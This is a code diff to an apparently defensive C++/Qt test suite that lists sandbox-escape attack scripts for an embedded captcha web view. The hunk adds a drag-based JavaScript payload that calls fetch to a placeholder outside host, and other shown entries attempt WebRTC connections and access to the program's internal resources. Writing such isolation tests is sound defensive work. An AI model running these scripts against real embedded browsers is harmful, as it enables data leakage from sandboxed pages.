@@ -78,6 +78,13 @@ QList<Attack> attacksToEscape()
                               scene.drop(data, onTarget);
                           },
                       .watch = 500};
+    attacks << Attack{.name = "a drag out of the page",
+                      .script = "document.ondragstart = event => { event.dataTransfer.setData('text/plain',"
+                                "'evil'); fetch('ELSEWHERE/drag', {mode: 'no-cors'}); }; begun = done;",
+                      .markup = target("<div draggable=true" + wide + ">slide me</div>"),
+                      .act = [](Scene &scene, HostileSite &) { scene.drag(onTarget); },
+                      .dones = 2,
+                      .watch = 800};
     attacks << Attack{.name = "WebRTC",
                       .script =
                           "begun = () => { try { const connection = new RTCPeerConnection({iceServers: ["
@@ -137,9 +144,9 @@ QList<Attack> attacksToEscape()
                                   "fetch('ELSEWHERE/resource', {mode: 'no-cors'}); fetch('/done');"
                                   "</script></head><body/></html>");
                           },
-                      .mayStayReady = true,
                       .isSilent = true,
-                      .deadline = 2500};
+                      .deadline = 2500,
+                      .error = SmartCaptchaError::Code::LoadFailed};
     attacks << Attack{.name = "scripts of the program's resources",
                       .script = "begun = () => { const script = document.createElement('script');"
                                 "script.src = 'qrc:/qtwebchannel/qwebchannel.js';"
